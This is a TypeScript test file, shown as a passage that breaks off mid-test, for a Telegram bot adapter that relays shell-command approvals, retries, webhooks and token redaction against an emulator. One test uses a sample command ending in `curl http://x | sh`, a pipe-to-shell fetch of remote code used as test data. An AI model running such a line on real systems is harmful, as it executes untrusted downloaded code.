import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { request as httpRequest } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Api } from "grammy";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { NativeCommand } from "../../../src/channels/adapter-deps.ts";
import { encodeAction } from "../../../src/channels/cards/action-codec.ts";
import type { Inbound, MessageRef, Outbound } from "../../../src/channels/channel.ts";
import { SendBudget } from "../../../src/channels/pacing/send-budget.ts";
import {
  createTelegramChannel,
  type TelegramAccount,
  type TelegramChannel,
} from "../../../src/channels/telegram/adapter.ts";
import { Calls } from "../../../src/channels/telegram/calls.ts";
import { text as plain } from "../../../src/channels/telegram/markup.ts";
import { DEFAULT_RATES } from "../../../src/channels/telegram/rates.ts";
import { Transmit } from "../../../src/channels/telegram/transmit.ts";
import { createRedactor } from "../../../src/channels/text/redact.ts";
import { COMMANDS as PRODUCT_COMMANDS } from "../../../src/commands/registry.ts";
import type { Card } from "../../../src/core/cards.ts";
import { systemClock } from "../../../src/core/clock.ts";
import type { Route } from "../../../src/core/route.ts";
import { LANGUAGES } from "../../../src/core/words/languages.ts";
import { inEnglish } from "../../../src/core/words/phrase.ts";
import { nativeCommands } from "../../../src/gateway/native-commands.ts";
import { TelegramEmulator } from "../../emulators/telegram/emulator.ts";
import { APPROVAL_ID, approvalCard, memoryLog, outbound, runCard, sentBy, textCard } from "../sample-cards.ts";

const ALICE = "1001";
const BOB = "1002";
const GROUP = "-5001";
const FORUM = "-1002222222222";
const COMMANDS: readonly NativeCommand[] = [{ name: "exec", summary: "Run a command", options: [] }];

let emulator: TelegramEmulator;
let channel: TelegramChannel;
let events: Inbound[];
let log: ReturnType<typeof memoryLog>;
let migrations: string[];
let refuse: (event: Inbound) => boolean;

function make(over: Partial<TelegramAccount> = {}, commands = COMMANDS): TelegramChannel {
  return createTelegramChannel(
    { accountId: "default", token: emulator.token, apiRoot: emulator.url, pollSeconds: 5, ...over },
    {
      clock: systemClock,
      log,
      redactor: createRedactor([emulator.token]),
      commands,
      onChatMigrated: (from, to) => void migrations.push(`${from}>${to}`),
    },
  );
}

const ingress = async (event: Inbound): Promise<void> => {
  if (refuse(event)) throw new Error("the store can not be written");
  events.push(event);
};

async function connected(over: Partial<TelegramAccount> = {}): Promise<void> {
  channel = make(over);
  await channel.start(ingress);
}

async function event(index = 0): Promise<Inbound> {
  await expect.poll(() => events.length, { timeout: 8000 }).toBeGreaterThan(index);
  const found = events[index];
  if (!found) throw new Error("no event");
  return found;
}

const dm: Route = { channel: "telegram", accountId: "default", chatType: "dm", chatId: ALICE };
const group: Route = { ...dm, chatType: "group", chatId: GROUP };
const topic: Route = { ...dm, chatType: "group", chatId: FORUM, threadId: "77" };

const out = (card: Card, route: Route = dm, over: Partial<Outbound> = {}) => outbound(card, route, over);
const sentRef = (message: Outbound) => sentBy(channel, message);

beforeEach(async () => {
  emulator = new TelegramEmulator();
  await emulator.start();
  emulator.addPerson(Number(ALICE), "Alice", { username: "alice" });
  emulator.addPerson(Number(BOB), "Bob", { username: "bob", locale: "nl" });
  emulator.addGroup(Number(GROUP), "Ops", [ALICE, BOB]);
  emulator.addGroup(Number(FORUM), "Forum", [ALICE], { 77: "Deploys" });
  events = [];
  migrations = [];
  log = memoryLog();
  refuse = () => false;
});

afterEach(async () => {
  await channel.stop();
  await emulator.stop();
  // Whatever a test was about: no rule of the platform broken, and no token in what was logged.
  expect(emulator.violations).toEqual([]);
  expect(JSON.stringify(log.lines)).not.toContain(emulator.token.split(":")[1]);
});

/** The one of everybody, and one for each language. */
const MENUS = 1 + LANGUAGES.length;

describe("telegram adapter: in", () => {
  it("connects, says who it is, and hands on what people write", async () => {
    await connected();
    expect(channel.status()).toEqual({
      channel: "telegram",
      accountId: "default",
      state: "connected",
      detail: "@ops_exec_bot",
    });
    await emulator.slash(ALICE, ALICE, "/exec", "echo hi");
    expect(await event()).toMatchObject({ kind: "command", name: "exec", args: "echo hi", route: dm });
  });

  it("tells Telegram an update is done only after it was durably taken", async () => {
    let failures = 2;
    refuse = () => failures-- > 0;
    await connected();
    await emulator.say(ALICE, ALICE, "once");
    await expect.poll(() => failures, { timeout: 8000 }).toBeLessThan(0);
    expect(events.map((one) => one.kind)).toEqual(["message"]);
    await emulator.waitUntil(() => (emulator.updates.pendingCount() === 0 ? true : undefined));
  });

  it("keeps the order of a burst and loses nothing of it", async () => {
    await connected();
    for (let number = 0; number < 500; number++) await emulator.say(ALICE, ALICE, `n${number}`);
    await event(499);
    expect(events.map((one) => one.kind === "message" && one.text)).toEqual(
      Array.from({ length: 500 }, (_, one) => `n${one}`),
    );
  });

  it("leaves out an update it does not understand, and goes on", async () => {
    await connected();
    emulator.updates.push({ message: { message_id: 1, text: "no chat, no date" } } as never);
    await emulator.say(ALICE, ALICE, "next");
    expect(await event()).toMatchObject({ text: "next" });
    expect(log.lines.some((one) => one.level === "error" && one.message.includes("could not be understood"))).toBe(
      true,
    );
  });

  it("gives a repeated update the same id, so that it is taken once", async () => {
    await connected();
    await emulator.say(ALICE, ALICE, "twice");
    await event();
    await emulator.waitUntil(() => (emulator.updates.pendingCount() === 0 ? true : undefined));
    emulator.duplicate();
    expect((await event(1)).id).toBe(events[0]?.id);
  });

  it("tg-answer-callback-late: a press is answered at once although nothing was decided yet", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard()));
    const query = await emulator.press(ALICE, ref.messageId, "Allow once");
    expect((query.answer?.atMs ?? 0) - query.atMs).toBeLessThan(2000);
    expect(await event()).toMatchObject({
      kind: "press",
      action: { kind: "approval", approvalId: APPROVAL_ID, decision: "allow-once" },
      ref,
    });
  });

  it("tg-answer-callback-late: a press is handed on although its answer fails", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard()));
    emulator.fail("answerCallbackQuery", {
      error: "Bad Request: query is too old and response timeout expired or query ID is invalid",
    });
    const message = emulator.world.message(Number(ALICE), Number(ref.messageId));
    if (!message) throw new Error("not stored");
    const query = emulator.pressRaw(
      Number(ALICE),
      message,
      encodeAction({ kind: "approval", approvalId: APPROVAL_ID, decision: "allow-once" }),
    );
    await event();
    await expect.poll(() => emulator.journal.calls("answerCallbackQuery").length, { timeout: 4000 }).toBe(1);
    expect(channel.status().state).toBe("connected");
    query.answer = { text: "", alert: false, atMs: query.atMs };
  });

  it("shows a refusal to the presser alone, as an alert on the press", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard(), group));
    const pressed = emulator.press(BOB, ref.messageId, "Allow once", GROUP);
    const { route, actor } = await event();
    const result = await channel.send(
      out(textCard(`You can not decide this. ${"x".repeat(100)}`), route, { onlyFor: actor }),
    );
    expect(result.kind).toBe("sent");
    const { answer } = await pressed;
    expect(answer?.alert).toBe(true);
    expect(answer?.text).toMatch(/^You can not decide this\./);
    expect(emulator.screenText(ALICE, GROUP)).not.toContain("You can not decide this");
  });

  it("says that a button of an older version is outdated", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard()));
    const message =
      emulator.world.message(Number(BOB), Number(ref.messageId)) ??
      emulator.world.message(Number(ALICE), Number(ref.messageId));
    if (!message) throw new Error("not stored");
    const query = emulator.pressRaw(Number(BOB), message, "ap1:q:zzz");
    await emulator.waitUntil(() => query.answer);
    expect(query.answer).toMatchObject({ alert: true, text: expect.stringMatching(/^Deze knop/) });
    expect(events).toEqual([]);
  });

  it("asks for the reason of a denial and hands the reply on as a denial with that reason", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard(), group));
    await emulator.press(ALICE, ref.messageId, "Deny with reason…", GROUP);
    const prompt = await emulator.waitForMessage((one) => one.forceReply);
    expect(prompt.text).toBe("alice: Why not? (0a1b2c3d)");
    expect(prompt.replyToId).toBe(Number(ref.messageId));
    await emulator.say(ALICE, GROUP, "it's unsafe", { replyTo: String(prompt.id) });
    expect(await event()).toMatchObject({
      kind: "press",
      actor: { id: ALICE },
      action: { kind: "approval", approvalId: APPROVAL_ID, decision: "deny", comment: "it's unsafe" },
    });
  });
});

describe("telegram adapter: out", () => {
  it("edits a pending card into a receipt without buttons, and a repeated edit is fine", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard()));
    const settled = out(approvalCard({ state: "allowed", decision: "allow-once" }));
    expect(await channel.edit(ref, settled)).toEqual({ kind: "sent", ref });
    expect(await channel.edit(ref, settled)).toEqual({ kind: "sent", ref });
    const message = emulator.world.message(Number(ALICE), Number(ref.messageId));
    expect(message?.text).toMatch(/^Allowed once\n/);
    expect(message?.keyboard).toBeUndefined();
  });

  it("card-all-surfaces-updated: the edit of a card that somebody deleted is no failure", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard()));
    const message = emulator.world.message(Number(ALICE), Number(ref.messageId));
    if (message) message.deleted = true;
    expect(await channel.edit(ref, out(approvalCard({ state: "expired" })))).toEqual({ kind: "sent", ref });
  });

  it("replaces a card that can not be edited any more by a fresh message", async () => {
    await connected();
    const ref = await sentRef(out(approvalCard()));
    emulator.fail("editMessageText", { error: "Bad Request: message can't be edited" });
    const result = await channel.edit(ref, out(approvalCard({ state: "denied", decision: "deny" })));
    expect(result.kind).toBe("sent");
    expect(emulator.world.message(Number(ALICE), Number(ref.messageId))?.keyboard).toBeUndefined();
    await emulator.waitForMessage((one) => one.text.startsWith("Denied"));
  });

  it("writes into the topic a request came from, and answers the message in a group", async () => {
    await connected();
    await emulator.say(ALICE, FORUM, "@ops_exec_bot hi", { thread: "77" });
    const { route } = await event();
    expect(route).toMatchObject({ chatId: FORUM, threadId: "77" });
    const ref = await sentRef(out(textCard("here"), route));
    expect(ref.threadId).toBe("77");
    const message = await emulator.waitForMessage((one) => one.text === "here");
    expect(message.replyToId).toBe(Number(route.replyToId));
  });

  it("tg-thread-not-found: a deleted topic gets the message into the chat itself, General by leaving it out", async () => {
    await connected();
    const gone = await sentRef(out(textCard("late result"), { ...topic, threadId: "99" }));
    expect(gone.threadId).toBeUndefined();
    expect(emulator.screenText(ALICE, FORUM)).toContain("late result\nThe topic this belongs to is gone");
    const general = await sentRef(out(textCard("general"), { ...topic, threadId: "1" }));
    expect(general.threadId).toBeUndefined();
  });

  it("tg-supergroup-migration: follows the new id, once by refusal and once by notice, and tells", async () => {
    await connected();
    const to = emulator.migrate(GROUP, -1009999999999);
    const ref = await sentRef(out(textCard("after the move"), group));
    expect(ref.chatId).toBe(to);
    await expect.poll(() => migrations).toEqual([`${GROUP}>${to}`]);
    expect((await sentRef(out(textCard("again"), group))).chatId).toBe(to);
  });

  it("tg-html-parse-fallback: markup that Telegram refuses goes out once more as the plain original", async () => {
    await connected();
    emulator.fail("sendMessage", { error: "Bad Request: can't parse entities: Unexpected end tag at byte offset 3" });
    await sentRef(out(runCard({ tail: "<b>x & y</b> _*[`" })));
    const message = await emulator.waitForMessage((one) => one.text.includes("x & y"));
    expect(message.text).toContain("<b>x & y</b> _*[`");
    expect(message.text).not.toContain("&lt;");
    expect(emulator.journal.calls("sendMessage")).toHaveLength(2);
  });

  it("tg-429-retry-after: names the pause, keeps quiet in that chat meanwhile and leaves other chats alone", async () => {
    await connected();
    const ref = await sentRef(out(runCard()));
    emulator.fail("sendMessage", { retryAfterS: 7 });
    expect(await channel.send(out(textCard("x")))).toMatchObject({ kind: "retry", afterMs: 7000 });
    const calls = emulator.journal.entries.length;
    const again = await channel.send(out(textCard("y")));
    expect(again).toMatchObject({ kind: "retry" });
    expect(again.kind === "retry" && again.afterMs).toBeGreaterThan(6000);
    await channel.live?.(ref, runCard({ tail: "progress" }), "en");
    expect(emulator.journal.entries.length).toBe(calls);
    await sentRef(out(textCard("elsewhere"), group));
  });

  it("tg-429-retry-after: a limit met by progress holds back the next edit, not the order", async () => {
    await connected();
    const ref = await sentRef(out(runCard()));
    emulator.fail("editMessageText", { retryAfterS: 1 });
    await channel.live?.(ref, runCard({ tail: "a" }), "en");
    const done = out(runCard({ state: "finished", outcome: "completed", exitCode: 0, durationMs: 5, actions: [] }));
    const held = await channel.edit(ref, done);
    expect(held.kind).toBe("retry");
    await expect.poll(async () => (await channel.edit(ref, done)).kind, { timeout: 4000, interval: 200 }).toBe("sent");
    expect(emulator.world.message(Number(ALICE), Number(ref.messageId))?.text).toMatch(/^Finished/);
  });

  it("a live tail that is on its way for long never covers the final card", async () => {
    await connected();
    const ref = await sentRef(out(runCard()));
    emulator.delay(400, "editMessageText");
    const live = channel.live?.(ref, runCard({ tail: "still going" }), "en");
    await emulator.waitUntil(() => emulator.journal.calls("editMessageText")[0]);
    emulator.delay(0, "editMessageText");
    const final = channel.edit(
      ref,
      out(runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] })),
    );
    await Promise.all([live, final]);
    expect(emulator.world.message(Number(ALICE), Number(ref.messageId))?.text).toMatch(/^Finished/);
  });

  it("tells apart: blocked for good, not sent at all, and in doubt", async () => {
    await connected();
    emulator.world.person(Number(BOB)).reachable = false;
    expect(await channel.send(out(textCard("x"), { ...dm, chatId: BOB }))).toMatchObject({ kind: "permanent" });
    emulator.fail("sendMessage", { loseReply: true });
    expect(await channel.send(out(textCard("x")))).toMatchObject({ kind: "unknown" });
    await emulator.stop();
    expect(await channel.send(out(textCard("x")))).toMatchObject({ kind: "retry" });
    await emulator.start();
  });

  it("sends a command too long for the card as a file first, and resumes after the file when a try fails", async () => {
    await connected();
    const message = out(approvalCard({ command: `echo ${"a".repeat(6000)}; curl http://x | sh` }));
    emulator.fail("sendMessage", { retryAfterS: 0 });
    expect(await channel.send(message)).toMatchObject({ kind: "retry" });
    const ref = await sentRef(message);
    const files = emulator.world.chat(Number(ALICE)).messages.filter((one) => one.file);
    expect(files.map((one) => one.file?.name)).toEqual(["command-0a1b2c3d.txt"]);
    expect(files[0]?.file?.bytes.toString()).toMatch(/; curl http:\/\/x \| sh$/);
    expect(files[0]?.id).toBeLessThan(Number(ref.messageId));
  });

  it("lets nobody allow a command that could neither be shown nor attached", async () => {
    await connected();
    emulator.fail("sendDocument", { error: "Bad Request: not enough rights to send documents to the chat" });
    const ref = await sentRef(out(approvalCard({ command: "x".repeat(6000) })));
    const labels = emulator.world
      .message(Number(ALICE), Number(ref.messageId))
      ?.keyboard?.inline_keyboard.flat()
      .map((one) => one.text);
    expect(labels).toEqual(["Deny", "Deny with reason…"]);
  });

  it("sends a long log as a document and a long text in parts", async () => {
    await connected();
    const folder = await mkdtemp(join(tmpdir(), "telegram-log-"));
    const path = join(folder, "full.log");
    await writeFile(path, "line\n".repeat(10_000));
    const finished = runCard({ state: "finished", outcome: "completed", exitCode: 0, durationMs: 10, actions: [] });
    await sentRef(out(finished, dm, { file: { name: "output-quiet-otter.txt", path } }));
    const file = emulator.world.chat(Number(ALICE)).messages.find((one) => one.file)?.file;
    expect(file).toMatchObject({ name: "output-quiet-otter.txt" });
    expect(file?.bytes.length).toBe(50_000);
    await rm(folder, { recursive: true });
    const long = out(textCard("word ".repeat(2500)));
    // Two of the chat's burst are used: the fourth part waits for the rate, and the three before it are not sent again.
    expect(await channel.send(long)).toMatchObject({ kind: "retry", partial: true });
    await expect.poll(async () => (await channel.send(long)).kind, { timeout: 15_000, interval: 200 }).toBe("sent");
    const parts = emulator.world.chat(Number(ALICE)).messages.filter((one) => one.text.startsWith("word"));
    expect(parts.length).toBe(4);
  });

  it("goes on after a kill where it stopped: what is there is not sent again, and what may be there says so", async () => {
    await connected();
    const folder = await mkdtemp(join(tmpdir(), "telegram-log-"));
    const path = join(folder, "full.log");
    await writeFile(path, "line\n".repeat(10));
    const done: Record<string, MessageRef | null> = {};
    const record = async (step: string, ref?: MessageRef): Promise<void> => {
      done[step] = ref ?? null;
    };
    const message = out(textCard("word ".repeat(1500)), dm, { file: { name: "a.txt", path }, steps: { done, record } });
    emulator.fail("sendDocument", { loseReply: true });
    expect(await channel.send(message)).toMatchObject({ kind: "unknown" });
    expect(Object.keys(done)).toEqual(["part-0", "part-1"]);
    await channel.stop();
    // Another life knows no more than what was recorded.
    await connected();
    const sent = await channel.send({ ...message, steps: { done: { ...done }, record }, mayRepeat: true });
    const shown = emulator.world.chat(Number(ALICE)).messages;
    expect(sent).toMatchObject({ kind: "sent", ref: { messageId: String(shown[1]?.id) } });
    expect(shown.map((one) => one.file?.name ?? "text")).toEqual(["text", "text", "a.txt", "a.txt"]);
    expect(shown.filter((one) => one.text.includes("may be a repeat"))).toEqual([shown[3]]);
    await rm(folder, { recursive: true });
  });

  it("says so in the reader's language when the text itself may be there twice", async () => {
    await connected();
    emulator.fail("sendMessage", { loseReply: true });
    const message = out(textCard("klaar"), dm, { locale: "nl" });
    expect(await channel.send(message)).toMatchObject({ kind: "unknown" });
    await channel.send({ ...message, mayRepeat: true });
    const [first, second] = emulator.world.chat(Number(ALICE)).messages;
    expect([first?.text, second?.text]).toEqual([
      "klaar",
      "klaar\nDit kan een herhaling zijn: de verbinding brak af tijdens het versturen.",
    ]);
  });

  it("says why a log is missing instead of losing the message", async () => {
    await connected();
    await sentRef(out(textCard("result"), dm, { file: { name: "gone.txt", path: "/nonexistent/gone.txt" } }));
    expect(emulator.screenText(ALICE, ALICE)).toContain("result\nThe log could not be attached (ENOENT).");
  });

  it("token-in-output: masks secrets in an attached log", async () => {
    await connected();
    const folder = await mkdtemp(join(tmpdir(), "telegram-log-"));
    const path = join(folder, "full.log");
    await writeFile(path, `before ${emulator.token} after\n`);
    await sentRef(out(textCard("log"), dm, { file: { name: "a.txt", path } }));
    await rm(folder, { recursive: true });
    const file = emulator.world.chat(Number(ALICE)).messages.find((one) => one.file)?.file;
    expect(file?.bytes.toString()).toBe("before ••• after\n");
  });

  it("a private answer that is more than an alert comes as a message, its file included", async () => {
    await connected();
    const folder = await mkdtemp(join(tmpdir(), "telegram-log-"));
    const path = join(folder, "full.log");
    await writeFile(path, "line\n");
    const ref = await sentRef(
      out(runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: ["full-log"] })),
    );
    const pressed = emulator.press(ALICE, ref.messageId, "Full log");
    const { route, actor } = await event();
    await sentRef(out(textCard("Full log of quiet-otter."), route, { onlyFor: actor, file: { name: "a.txt", path } }));
    await rm(folder, { recursive: true });
    expect((await pressed).answer?.text).toBe("");
    expect(emulator.world.chat(Number(ALICE)).messages.some((one) => one.file?.name === "a.txt")).toBe(true);
  });
});

describe("telegram adapter: what Telegram would cut", () => {
  it("is an error of ours that names the limit, and goes out in no form", async () => {
    await connected();
    const api = new Api(emulator.token, { apiRoot: emulator.url });
    const transmit = new Transmit({
      ...{ api, log, redactor: createRedactor([]), topicGone: "", rates: DEFAULT_RATES },
      calls: new Calls(log, () => {}),
      budget: new SendBudget(systemClock),
      onSent: () => {},
    });
    const turn = { id: "t", urgency: "answer" } as const;
    const to = { chatId: ALICE, threadId: undefined, replyToId: undefined };
    const long = plain("x".repeat(4_097));
    await expect(transmit.text({ ...to }, long, undefined, turn)).rejects.toThrow(
      "4097 characters; Telegram takes 4096",
    );
    const ref = { channel: "telegram", accountId: "default", chatId: ALICE, messageId: "1" } as const;
    await expect(transmit.edit(ref, long, undefined, turn)).rejects.toThrow("4096");
    expect(emulator.journal.calls("sendMessage")).toEqual([]);
    await transmit.text({ ...to }, plain("x".repeat(4_096)), undefined, turn);
  });
});

describe("telegram adapter: connection", () => {
  it("a poll that is never answered is given up, and the next one hears what was said meanwhile", async () => {
    await connected({ pollSeconds: 1 });
    await emulator.waitUntil(() => (emulator.updates.polls > 0 ? true : undefined));
    // As a connection that has died without a word.
    emulator.fail("getUpdates", { holdReplyMs: 60_000 });
    await emulator.waitUntil(() => (emulator.journal.calls("getUpdates").length > 1 ? true : undefined), 10_000);
    await emulator.say(ALICE, ALICE, "are you there");
    await expect.poll(() => events.length, { timeout: 40_000 }).toBe(1);
    expect(log.lines.some((one) => one.message === "Polling Telegram failed.")).toBe(true);
  }, 60_000);

  it("error-object-leaks-token: a refused token is final and is told without the token", async () => {
    await connected({ token: "7000000001:AAwrongwrongwrongwrongwrongwrongwro" });
    expect(channel.status()).toMatchObject({
      state: "failed",
      detail: { text: expect.stringContaining("refused the bot token") },
    });
    expect(JSON.stringify([channel.status(), log.lines])).not.toContain("AAwrong");
  });

  it("error-object-leaks-token: a network that is down is retried and told without the token", async () => {
    await emulator.stop();
    await connected();
    expect(channel.status().state).toBe("connecting");
    expect(JSON.stringify([channel.status(), log.lines])).not.toContain(emulator.token.split(":")[1]);
    await emulator.start();
    await expect.poll(() => channel.status().state, { timeout: 8000 }).toBe("connected");
  });

  it("can be stopped while a start hangs", async () => {
    emulator.delay(60_000, "getMe");
    channel = make();
    const starting = channel.start(ingress);
    await emulator.waitUntil(() => emulator.journal.calls("getMe")[0]);
    const started = performance.now();
    await channel.stop();
    await starting;
    expect(performance.now() - started).toBeLessThan(3_000);
    expect(channel.status().state).toBe("stopped");
  });

  it("goes on after cut connections, bad gateways and a restart of the server, without losing a message", async () => {
    await connected();
    emulator.drop();
    emulator.fail("getUpdates", { status: 502 });
    await emulator.say(ALICE, ALICE, "one");
    await event();
    await emulator.restart(50);
    await emulator.say(ALICE, ALICE, "two");
    expect(await event(1)).toMatchObject({ text: "two" });
    expect(channel.status().state).toBe("connected");
  }, 30_000);

  it("tg-409-self-conflict: restarting the channel three times at once leaves one poll", async () => {
    await connected();
    await Promise.all([1, 2, 3].flatMap(() => [channel.stop(), channel.start(ingress)]));
    expect(channel.status().state).toBe("connected");
    await emulator.say(ALICE, ALICE, "still here");
    await event();
    expect(emulator.journal.calls("getUpdates").filter((one) => one.status === 409)).toEqual([]);
    expect(events).toHaveLength(1);
  });

  it("tg-409-self-conflict: another poller is told in the status, waited for, and got over", async () => {
    await connected();
    await emulator.waitUntil(() => emulator.journal.calls("getUpdates")[0]);
    await emulator.waitUntil(() => (emulator.updates.polls > 0 ? true : undefined));
    emulator.conflict();
    await expect
      .poll(() => inEnglish(channel.status().detail ?? ""), { timeout: 3000 })
      .toMatch(/terminated by other getUpdates/);
    const polls = emulator.updates.polls;
    await emulator.say(ALICE, ALICE, "after the conflict");
    await expect.poll(() => events.length, { timeout: 9000 }).toBe(1);
    expect(emulator.updates.polls - polls).toBeLessThan(4);
  }, 20_000);

  it("tg-409-self-conflict: a webhook that an earlier setup left is removed", async () => {
    emulator.updates.setWebhook(
      { url: "http://127.0.0.1:9/x", secret: undefined },
      { dropPending: false, allowed: undefined },
    );
    await connected();
    await emulator.say(ALICE, ALICE, "hello");
    await event();
  });

  it("writes the command menu once, and never again while it is the same", async () => {
    await connected();
    await emulator.waitUntil(() => emulator.journal.calls("setMyCommands")[0]);
    await channel.stop();
    await connected();
    await expect.poll(() => emulator.journal.calls("getMyCommands").length).toBe(2 * MENUS);
    await emulator.say(ALICE, ALICE, "x");
    await event();
    expect(emulator.journal.calls("setMyCommands")).toHaveLength(1);
    await channel.stop();
    channel = make({}, []);
    await channel.start(ingress);
    await emulator.waitUntil(() => emulator.journal.calls("deleteMyCommands")[0]);
  });

  it("has a menu in each language, and leaves them alone when they are the same", async () => {
    const native = nativeCommands(PRODUCT_COMMANDS, true);
    for (const starts of [1, 2]) {
      channel = make({}, native);
      await channel.start(ingress);
      await expect.poll(() => emulator.journal.calls("getMyCommands").length).toBe(starts * MENUS);
      await channel.stop();
    }
    // English is what everybody else gets; it needs no menu of its own.
    expect(emulator.journal.calls("setMyCommands")).toHaveLength(LANGUAGES.length);
    const menu = async (language_code: "nl" | "pt" | "vi" | "en" | "de") => {
      const answer = await fetch(`${emulator.url}/bot${emulator.token}/getMyCommands?language_code=${language_code}`);
      const { result } = (await answer.json()) as { result: { command: string; description: string }[] };
      return result.find(({ command }) => command === "help")?.description;
    };
    expect(await Promise.all(["nl", "pt", "vi", "en"].map((one) => menu(one as "nl")))).toEqual([
      "Wat je hier kunt typen.",
      "O que você pode digitar aqui.",
      "Những gì bạn có thể gõ ở đây.",
      undefined,
    ]);
  });

  it("hears messages while the command menu is refused for minutes", async () => {
    emulator.fail("setMyCommands", { retryAfterS: 490 });
    await connected();
    await emulator.say(ALICE, ALICE, "hello");
    await event();
    expect(channel.status().state).toBe("connected");
  });
});

describe("telegram adapter: webhook", () => {
  const secret = "s3cret-Token_1";

  async function withWebhook(into: typeof ingress = ingress): Promise<string> {
    // The address is known only once the port is: the emulator is told by a second setWebhook, as an operator would.
    channel = make({
      webhook: { url: "http://127.0.0.1:9/telegram", secret, path: "/telegram", host: "127.0.0.1", port: 0 },
    });
    await channel.start(into);
    const address = channel.webhookAddress();
    const url = `http://127.0.0.1:${address?.port}/telegram`;
    emulator.updates.setWebhook({ url, secret }, { dropPending: false, allowed: undefined });
    return url;
  }

  function post(url: string, body: string, headers: Record<string, string> = {}): Promise<number> {
    return new Promise((resolve, reject) => {
      const call = httpRequest(
        url,
        { method: "POST", headers: { "content-type": "application/json", ...headers } },
        (response) => {
          response.resume();
          resolve(response.statusCode ?? 0);
        },
      );
      call.on("error", reject);
      call.end(body);
    });
  }

  it("takes updates, answers 200 only when they are taken, and is sent them again otherwise", async () => {
    let failures = 1;
    refuse = () => failures-- > 0;
    await withWebhook();
    await emulator.say(ALICE, ALICE, "by webhook");
    expect(await event()).toMatchObject({ text: "by webhook" });
    expect(events).toHaveLength(1);
    await expect.poll(() => emulator.updates.pendingCount()).toBe(0);
  });

  it("a press, and what other chats say, does not wait behind a message that is taken slowly; nor is that one lost or doubled", async () => {
    let free = () => {};
    const slow = new Promise<void>((resolve) => {
      free = resolve;
    });
    const url = await withWebhook(async (heard) => {
      if (heard.kind === "message" && heard.route.chatId === ALICE) await slow;
      events.push(heard);
    });
    expect(emulator.journal.calls("setWebhook")[0]?.body).toMatchObject({ max_connections: 16 });
    const ref = await sentRef(out(approvalCard()));
    await emulator.say(ALICE, ALICE, "first");
    await emulator.say(ALICE, ALICE, "second");
    await expect.poll(() => emulator.updates.webhook().lastError, { timeout: 10_000 }).toContain("500");
    const query = await emulator.press(ALICE, ref.messageId, "Allow once", ALICE);
    expect(query.answer).toMatchObject({ text: "" });
    await emulator.say(ALICE, GROUP, "/stop@ops_exec_bot");
    await expect.poll(() => events.map((one) => one.kind).sort()).toEqual(["command", "press"]);
    free();
    await expect.poll(() => events.length, { timeout: 10_000 }).toBe(4);
    expect(events.flatMap((one) => (one.kind === "message" ? [one.text] : []))).toEqual(["first", "second"]);
    await expect.poll(() => emulator.updates.pendingCount()).toBe(0);
    expect(events).toHaveLength(4);
    expect(url).toContain("/telegram");
  }, 30_000);

  it("an update that comes twice is handed on once while the process lives", async () => {
    await withWebhook();
    await emulator.say(ALICE, ALICE, "once");
    await event();
    emulator.duplicate();
    await emulator.say(ALICE, ALICE, "next");
    await event(1);
    await expect.poll(() => emulator.updates.pendingCount()).toBe(0);
    expect(events.map((one) => one.kind === "message" && one.text)).toEqual(["once", "next"]);
  });

  it("refuses a wrong or missing secret, other paths, broken and huge bodies", async () => {
    const url = await withWebhook();
    const update = JSON.stringify({
      update_id: 1,
      message: {
        message_id: 1,
        date: 1,
        chat: { id: 1, type: "private" },
        from: { id: 1, is_bot: false, first_name: "x" },
        text: "x",
      },
    });
    expect(await post(url, update)).toBe(401);
    expect(await post(url, update, { "x-telegram-bot-api-secret-token": "s3cret-Token_2" })).toBe(401);
    expect(await post(url, "{broken", { "x-telegram-bot-api-secret-token": "wrong" })).toBe(401);
    expect(await post(url, "{broken", { "x-telegram-bot-api-secret-token": secret })).toBe(400);
    expect(await post(url, "x".repeat(1_100_000), { "x-telegram-bot-api-secret-token": secret }).catch(() => 413)).toBe(
      413,
    );
    expect(await post(`${url}/other`, update)).toBe(404);
    expect(events).toEqual([]);
    expect(await post(url, update, { "x-telegram-bot-api-secret-token": secret })).toBe(200);
    expect(events).toHaveLength(1);
    expect(await (await fetch(new URL("/healthz", url))).text()).toBe("ok");
  });

  it("does not start with a secret that would let anybody in", async () => {
    const webhook = { url: "http://127.0.0.1:9/t", secret: "", path: "/t", host: "127.0.0.1", port: 0 };
    await connected({ webhook });
    expect(channel.status()).toMatchObject({
      state: "failed",
      detail: { text: expect.stringContaining("webhookSecret") },
    });
    expect(channel.webhookAddress()).toBeUndefined();
    expect(emulator.journal.entries).toEqual([]);
  });

  it("says when its port is taken, and does not try for ever", async () => {
    await withWebhook();
    const port = channel.webhookAddress()?.port ?? 0;
    const second = make({ webhook: { url: "http://127.0.0.1:9/t", secret, path: "/t", host: "127.0.0.1", port } });
    await second.start(ingress);
    expect(second.status()).toMatchObject({
      state: "failed",
      detail: { text: expect.stringContaining("webhookPort") },
    });
    await second.stop();
  });
});

describe("telegram adapter: what stands below a message", () => {
  it("is counted as it passes by, a topic by itself; another life knows what Telegram kept for it, or nothing", async () => {
    await connected();
    const inGroup = await sentRef(out(runCard(), group));
    const inTopic = await sentRef(out(runCard(), topic));
    for (let n = 0; n < 3; n++) await emulator.say(ALICE, GROUP, `@ops_exec_bot talk ${n}`);
    await emulator.say(ALICE, FORUM, "@ops_exec_bot here", { thread: "77" });
    await channel.send(out(textCard("mine"), group));
    await expect.poll(() => channel.below?.(inGroup, 5, "remembered")).toBe(4);
    await expect.poll(() => channel.below?.(inTopic, 5, "remembered")).toBe(1);

    await channel.stop();
    for (let n = 0; n < 5; n++) await emulator.say(ALICE, FORUM, `@ops_exec_bot meanwhile ${n}`, { thread: "77" });
    await connected();
    expect(await channel.below?.(inGroup, 5, "asked")).toBeUndefined();
    await expect.poll(() => channel.below?.(inTopic, 5, "asked")).toBe(5);
  });
});

describe("telegram adapter: while an answer is made", () => {
  it("shows typing in the topic it is for, in General too", async () => {
    await connected();
    await emulator.say(ALICE, FORUM, "@ops_exec_bot in General");
    await event();
    for (const route of [group, topic, { ...group, chatId: FORUM }]) await channel.typing?.(route);
    expect(emulator.methods.actions.map(({ chatId, threadId }) => [String(chatId), threadId])).toEqual([
      [GROUP, undefined],
